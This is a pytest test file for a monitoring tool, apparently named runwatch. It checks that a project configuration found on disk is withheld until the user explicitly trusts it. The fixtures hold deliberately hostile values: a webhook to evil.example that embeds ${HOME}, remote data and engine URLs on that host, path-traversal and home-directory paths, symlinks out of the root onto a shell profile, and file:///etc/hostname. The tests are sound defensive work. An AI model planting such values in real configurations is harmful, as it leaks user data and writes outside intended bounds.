"""What a configuration that was found may do before its user trusts it, and after."""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import get_type_hints

import msgspec
import pytest

from runwatch import config
from runwatch.cli import main
from runwatch.config import trust
from runwatch.config.settings import Data, Predictions, Settings
from runwatch.data.errors import DataError
from runwatch.data.workflow import find_files
from runwatch.monitor.root_state import place_of

EVERYTHING = """
id = "somebody-else"
[watch]
roots = [".", "{out}"]
follow = true
[alerts]
on = "warning"
webhook = "https://evil.example/${{HOME}}"
[tasks]
file = "{out}/todo.txt"
[baseline]
metrics = "{out}/metrics.json"
[metrics]
primary = "val/auc"
[[data]]
name = "inside"
reference = "data/ref.csv"
current = "data/new/*.csv"
[[data]]
name = "outside"
reference = "{out}/ref.csv"
current = "data/new/*.csv"
[[data]]
name = "above"
reference = "data/../../ref.csv"
current = "data/new/*.csv"
[[data]]
name = "home"
reference = "~/ref.csv"
current = "data/new/*.csv"
[[data]]
name = "schema"
reference = "data/ref.csv"
current = "data/new/*.csv"
schema = "{out}/schema.json"
[[data]]
name = "far"
reference = "https://evil.example/ref.csv"
current = "data/new/*.csv"
[[data]]
name = "cluster"
reference = "data/ref.csv"
current = "data/new/*.csv"
engine = "dask://evil.example:8786"
[[data]]
name = "chained"
reference = "data/ref.csv"
current = "simplecache::https://evil.example/x.csv"
[[predictions]]
name = "p"
files = "{out}/*.csv"
[[models]]
name = "m"
champion = "model.onnx"
data = "inside"
[readers.plugin]
path = "/"
"""


@pytest.fixture
def root(tmp_path: Path) -> Path:
    path, out = tmp_path / "root", tmp_path / "out"
    path.mkdir()
    out.mkdir()
    (path / "runwatch.toml").write_text(EVERYTHING.format(out=out))
    return path.resolve()


def _load(root: Path) -> Settings:
    return config.load((str(root),))[str(root)]


def test_what_stays_inside_counts_and_nothing_else(root: Path) -> None:
    found = _load(root)
    assert [one.name for one in found.data] == ["inside"] and found.metrics.primary == "val/auc"
    assert (found.predictions, found.models, found.id, found.alerts) == ((), (), None, Settings().alerts)
    assert found.tasks.file is None and found.baseline.metrics is None and not found.watch.follow
    assert found.watch.roots == (".",) and found.reader_options == {}
    (problem,) = found.problems
    assert problem.hint.endswith(f"runwatch trust {root}") and len(found.withheld) == 16
    for words in ("send alerts to evil.example", "load the model", "be identified as somebody-else"):
        assert words in problem.message
    assert "HOME" not in problem.message


def test_trust_is_of_the_content_and_can_be_taken_back(
    root: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["trust", str(root)]) == 0
    said = capsys.readouterr().out
    assert str(root / "runwatch.toml") in said and "send alerts to evil.example" in said
    found = _load(root)
    assert len(found.data) == 8 and found.id == "somebody-else" and not found.withheld and not found.problems
    assert found.allows("/anywhere") and main(["trust", str(root)]) == 0
    assert "nothing here needs" in capsys.readouterr().out
    with (root / "runwatch.toml").open("a") as file:
        file.write("# changed\n")
    assert _load(root).withheld
    assert main(["trust", str(root), "--json"]) == 0 and not _load(root).withheld
    assert json.loads(capsys.readouterr().out)["trusted"][0]["file"] == str(root / "runwatch.toml")
    assert main(["trust", str(root), "--revoke"]) == 0 and _load(root).withheld
    assert trust.trusted() == []


def test_the_same_content_elsewhere_is_not_trusted(root: Path, tmp_path: Path) -> None:
    main(["trust", str(root)])
    copy = tmp_path / "copy"
    copy.mkdir()
    (copy / "runwatch.toml").write_bytes((root / "runwatch.toml").read_bytes())
    assert _load(copy).withheld and not _load(root).withheld


def test_a_file_that_the_user_names_and_his_own_need_no_trust(root: Path, own_places: Path) -> None:
    named = config.load((str(root),), str(root / "runwatch.toml"))[str(root)]
    assert named.id == "somebody-else" and not named.problems
    (root / "runwatch.toml").unlink()
    own = own_places / "xdg_config_home" / "runwatch"
    own.mkdir()
    (own / "runwatch.toml").write_text('[alerts]\nwebhook = "https://mine.example/x"\n')
    assert _load(root).alerts.webhook == "https://mine.example/x"
    (root / "runwatch.toml").write_text('[alerts]\nwebhook = "https://evil.example/x"\n')
    assert _load(root).alerts.webhook == "https://mine.example/x"
    if os.geteuid() == 0:
        os.chown(own / "runwatch.toml", 12345, 12345)
        with pytest.raises(config.ConfigError, match="belongs to another user"):
            _load(root)


@pytest.mark.parametrize("where", ["root", "here"])
def test_the_current_directorys_is_found_too(
    root: Path, tmp_path: Path, where: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    other = tmp_path / "other"
    other.mkdir()
    monkeypatch.chdir(root)
    assert _load(other if where == "here" else root).withheld
    assert config.configured_roots() == (str(root),)


def test_a_trust_file_that_others_could_have_written_allows_nothing(
    root: Path, own_places: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    main(["trust", str(root)])
    kept = own_places / "xdg_state_home" / "runwatch" / "trusted.json"
    assert kept.stat().st_mode & 0o777 == 0o600 and trust.trusted()
    with monkeypatch.context() as patch:
        patch.setattr(os, "geteuid", lambda: 4711)
        assert trust.trusted() == []
    kept.write_text("{")
    assert trust.trusted() == [] and _load(root).withheld


def test_a_link_out_of_the_root_is_no_data_before_it_is_trusted(root: Path, tmp_path: Path) -> None:
    (tmp_path / "out" / "secret.csv").write_text("a,b\n1,2\n")
    (root / "data" / "new").mkdir(parents=True)
    (root / "data" / "new" / "x.csv").symlink_to(tmp_path / "out" / "secret.csv")
    (root / "data" / "folder").symlink_to(tmp_path / "out")
    bounds = _load(root).bounds
    for path in ("new/*.csv", "new/x.csv", "folder/secret.csv", "folder", "**/*.csv"):
        with pytest.raises(DataError, match="outside the root"):
            find_files([str(root / "data" / path)], str(root), bounds)
        assert find_files([str(root / "data" / path)], str(root))


def test_a_todo_file_that_is_a_link_waits_for_trust(root: Path, tmp_path: Path) -> None:
    (root / "runwatch.toml").unlink()
    victim = tmp_path / "out" / "profile"
    victim.write_text("export PATH\n")
    (root / "todo.txt").symlink_to(victim)
    place = place_of(str(root), _load(root))
    assert place.private and place.problem and "runwatch trust" in place.problem.hint
    assert main(["tasks", "add", "first", "--root", str(root)]) == 0
    assert victim.read_text() == "export PATH\n"
    assert main(["trust", str(root)]) == 0
    assert place_of(str(root), _load(root)).file == root / "todo.txt"
    (root / "todo.txt").unlink()
    (root / "todo.txt").symlink_to(tmp_path / "out" / "other")
    assert place_of(str(root), _load(root)).private


@pytest.mark.parametrize("file", ["metrics.csv", ".bashrc", "run/train.py"])
def test_only_a_text_file_is_a_found_to_do_file(root: Path, file: str) -> None:
    (root / "runwatch.toml").write_text(f'[tasks]\nfile = "{file}"\n')
    assert _load(root).tasks.file is None and _load(root).withheld
    (root / "runwatch.toml").write_text('[tasks]\nfile = "notes/todo.txt"\n')
    assert _load(root).tasks.file == "notes/todo.txt" and not _load(root).withheld


@pytest.mark.parametrize(
    "url",
    [
        "file:///etc/hostname",
        "local:///etc/hostname",
        "nosuchkind://x.csv",
        "git://x.csv",
        "reference://x.csv",
        "jar://x.csv",
        "simplecache::memory://x.csv",
        "zip://a.csv::memory://x.zip",
    ],
)
def test_kinds_of_url_are_a_list_and_chains_are_for_the_command_line(url: str) -> None:
    with pytest.raises(DataError, match=r"is of a kind that is not opened|holds another URL"):
        find_files([url])
    if "::" in url:
        pytest.importorskip("fsspec")
        with pytest.raises(DataError, match=r"does not exist|cannot be read"):
            find_files([url], chained=True)


def test_what_its_user_has_us_write_stays_as_trusted_as_it_was(root: Path, tmp_path: Path) -> None:
    (root / "run").mkdir()
    (root / "run" / "metrics.csv").write_text("step,loss\n1,0.5\n")
    assert main(["baseline", "set", "run", "--root", str(root), "--write-config"]) == 0
    assert _load(root).withheld and _load(root).baseline.run == "run"
    main(["trust", str(root)])
    assert main(["baseline", "set", "run", "--root", str(root), "--write-config"]) == 0
    assert not _load(root).withheld


@pytest.mark.parametrize("kind", [Data, Predictions])
def test_every_place_that_a_table_names_is_bounded(root: Path, kind: type[msgspec.Struct]) -> None:
    hints = get_type_hints(kind, include_extras=True)
    places = [name for name, hint in hints.items() if "place" in repr(hint)]
    section = kind.__name__.lower()
    for name in places:
        given = {"name": "a", "files": "a", "reference": "a", "current": "a", name: "../out.csv"}
        lines = [f'{key} = "{value}"' for key, value in given.items() if key in hints]
        (root / "runwatch.toml").write_text("\n".join((f"[[{section}]]", *lines)))
        assert "../out.csv" in _load(root).withheld[0], name
    assert len(places) >= 3
